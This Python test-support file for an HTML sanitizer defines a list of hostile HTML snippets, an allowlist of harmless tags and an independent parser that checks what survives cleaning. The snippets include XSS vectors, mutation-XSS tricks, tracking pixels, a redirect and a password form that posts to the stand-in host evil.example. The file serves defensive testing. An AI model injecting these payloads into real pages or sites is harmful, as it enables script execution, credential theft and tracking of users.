"""HTML that would fetch, run or hide something, and a reader of pages that shares no code with what cleans them."""

from __future__ import annotations

from html.parser import HTMLParser

EVIL = "https://evil.example/x"

SNIPPETS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    f'<script src="{EVIL}"></script>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT/XSS>alert(1)</SCRIPT>",
    "<script>alert(1)",
    "<svg onload=alert(1)>",
    f'<svg><image href="{EVIL}"/><use xlink:href="{EVIL}#a"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<img src=x onerror=alert(1)>",
    f'<img src="{EVIL}" width=1 height=1>',
    f'<img srcset="{EVIL} 2x" src="data:image/png;base64,AAAA">',
    f'<img src="{EVIL}" alt="<img src=x onerror=alert(1)>">',
    f'<img src="cid:nobody" alt="a" longdesc="{EVIL}">',
    f'<picture><source srcset="{EVIL}"><img src="{EVIL}"></picture>',
    f'<video poster="{EVIL}" src="{EVIL}" autoplay></video>',
    f'<audio src="{EVIL}" autoplay onloadstart=alert(1)></audio>',
    f'<track src="{EVIL}" default>',
    f'<meta http-equiv="refresh" content="0; url={EVIL}">',
    f'<link rel="stylesheet" href="{EVIL}">',
    f'<link rel="prefetch" href="{EVIL}"><link rel="dns-prefetch" href="//evil.example">',
    f"<style>@import '{EVIL}'; body {{ display: none }}</style>",
    f'<div style="background: url({EVIL})">words</div>',
    '<p style="display:none">hidden</p>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">over all</p>',
    f'<body background="{EVIL}" onload="alert(1)">',
    f'<table background="{EVIL}"><tr><td background="{EVIL}">x</table>',
    f'<base href="{EVIL}">',
    f'<form action="{EVIL}"><input name=password><button formaction="{EVIL}">OK</button></form>',
    "<input autofocus onfocus=alert(1)>",
    f'<iframe src="{EVIL}"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    f'<frameset><frame src="{EVIL}"></frameset>',
    f'<object data="{EVIL}"></object>',
    f'<embed src="{EVIL}">',
    f'<applet code="{EVIL}"></applet>',
    '<a href="javascript:alert(1)">look</a>',
    '<a href="jAvAsCrIpT&colon;alert(1)">look</a>',
    '<a href=" &#1; javascript:alert(1)">look</a>',
    '<a href="data:text/html,<script>alert(1)</script>">look</a>',
    '<a href="vbscript:msgbox(1)">look</a>',
    f'<a href="{EVIL}" ping="{EVIL}" onclick="alert(1)" target=_blank>https://bank.example</a>',
    f'<a href="{EVIL}?<script>alert(1)</script>">look</a>',
    f'<map><area href="{EVIL}"></map>',
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<title><a title="</title><img src=x onerror=alert(1)>">',
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<plaintext><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='https://evil.example/x'?>",
    "<!DOCTYPE html SYSTEM 'https://evil.example/x'>",
    "<!--[if mso]><v:background fill='https://evil.example/x'/><![endif]-->",
    '<template><img src=x onerror=alert(1)></template>',
    '<p id="x" class="letter" onmouseover="alert(1)">x</p>',
    "</blockquote></div></body></html><script>alert(1)</script>",
    '<a href="https://evil.example/"onmouseover="alert(1)">x</a>',
    "<img/src=`x`onerror=alert(1)>",
    "<b/onclick=alert(1)>x</b><i\x0conclick=alert(1)>y</i>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    '<portal src="https://evil.example/x"></portal><x-unknown onclick=alert(1)>y</x-unknown>',
)  # fmt: skip

# What may stand in the customer's part of a letter: it holds words, and none of it takes an address.
HARMLESS = frozenset(
    "blockquote br div em h3 hr li ol p pre s strong table tbody td th tr ul".split()  # noqa: SIM905
)


class Page(HTMLParser):
    """Every tag of a page with its attributes, whatever else is not words, and the words."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.odd: list[str] = []  # comments, declarations, processing instructions
        self.words: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    def handle_comment(self, data: str) -> None:
        self.odd.append(data)

    def handle_decl(self, decl: str) -> None:
        self.odd.append(decl)

    def handle_pi(self, data: str) -> None:
        self.odd.append(data)

    def unknown_decl(self, data: str) -> None:
        self.odd.append(data)

    @property
    def text(self) -> str:
        """All words."""
        return "".join(self.words)
